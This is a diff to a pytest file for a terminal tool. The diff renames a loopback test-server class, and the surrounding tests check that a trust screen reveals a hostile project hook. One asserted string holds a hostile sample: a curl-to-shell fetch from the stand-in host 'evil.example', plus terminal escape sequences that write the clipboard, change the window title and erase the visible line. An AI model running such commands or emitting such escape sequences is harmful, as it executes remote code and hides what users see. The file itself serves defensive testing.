@@ -21,7 +21,7 @@ from pathlib import Path
 
 import pytest
 
-from runtime.testing.process import LoopbackProcess
+from runtime.testing.process import LoopbackThread
 from tests.hostile.test_shown import CLIP_ST, TITLE, call, hostile_project
 from tests.tui.test_tmux import Tmux, bastion_bin, wait_exit
 
@@ -77,7 +77,7 @@ def terminal(tmp_path) -> Iterator[Terminal]:
         session.kill()
 
 
-def environment(tmp_path: Path, server: LoopbackProcess | None = None) -> dict[str, str]:
+def environment(tmp_path: Path, server: LoopbackThread | None = None) -> dict[str, str]:
     keep = ("PATH", "HOME", "TZ")
     env = {k: os.environ[k] for k in keep if k in os.environ}
     env.update(
@@ -107,8 +107,8 @@ def test_the_trust_screen_shows_the_hook_it_would_run(tmp_path, terminal):
     assert "curlevil.example|sh^[]52;c;UFdORUQ=^[\\^[]2;pwned-title^[\\^[[2K^Mcargofmt" in shown
 
 
-def scripted(tmp_path: Path, turns: list[dict]) -> LoopbackProcess:
-    return LoopbackProcess.start(turns, tmp_path / "server")
+def scripted(tmp_path: Path, turns: list[dict]) -> LoopbackThread:
+    return LoopbackThread.start(turns, tmp_path / "server")
 
 
 ECHOED = f"echo out {CLIP_ST}{TITLE} end"  # a command whose arguments and output carry them
